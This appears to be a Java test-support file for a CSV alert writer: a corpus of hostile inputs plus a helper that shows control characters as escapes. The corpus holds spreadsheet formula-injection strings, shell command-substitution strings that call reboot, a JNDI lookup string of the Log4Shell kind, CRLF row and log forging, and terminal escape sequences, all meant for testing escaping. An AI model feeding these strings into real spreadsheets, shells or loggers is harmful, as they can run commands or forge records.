package org.sundew.alert.csv;

import java.util.List;

/** What visitors might say to whoever reads the file. */
final class Hostile {
    static final List<String> CORPUS = List.of(
            "=cmd|'/C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "$(reboot)`reboot`;reboot|reboot&&reboot",
            "a\r\n2,injected,row\r\n",
            "a\n01/02-03:04:06.623000 ,1,1,1,\"forged\",TCP,,,,",
            "\"",
            "\"\"",
            "\",\"",
            "\\",
            "\\\\",
            "\\\"",
            "\\\",\"x",
            "ends with \\",
            ",,,,",
            ", , ",
            " spaces ",
            "#comment",
            "\u0000\u0001\u001b[2J\u001b]0;owned\u0007\u007f\u0085\u009b31m",
            "line\u2028para\u2029",
            "right\u202eleft\u200bzero\ufeff",
            "\ud800 lone \udc00",
            "${jndi:ldap://x.example/a}%d%s%n",
            "{\"json\":\"]}\"}",
            "<14>1 - - - - - forged syslog",
            "CEF:0|a|b|c|d|e|9|src=1 dst=2",
            "grüße, 日本語 🐟",
            "\u000b\u000c\u001c\u001d\u001e");

    private Hostile() {}

    /** The text as it may be shown: what cannot be is written as an escape. */
    static String shown(String text) {
        StringBuilder shown = new StringBuilder();
        text.codePoints().forEach(c -> {
            int type = Character.getType(c);
            boolean hidden = type == Character.CONTROL
                    || type == Character.FORMAT
                    || type == Character.SURROGATE
                    || type == Character.LINE_SEPARATOR
                    || type == Character.PARAGRAPH_SEPARATOR;
            if (!hidden) {
                shown.appendCodePoint(c);
            } else {
                shown.append(String.format(c <= 0xFF ? "\\x%02X" : "\\u%04X", c));
            }
        });
        return shown.toString();
    }
}
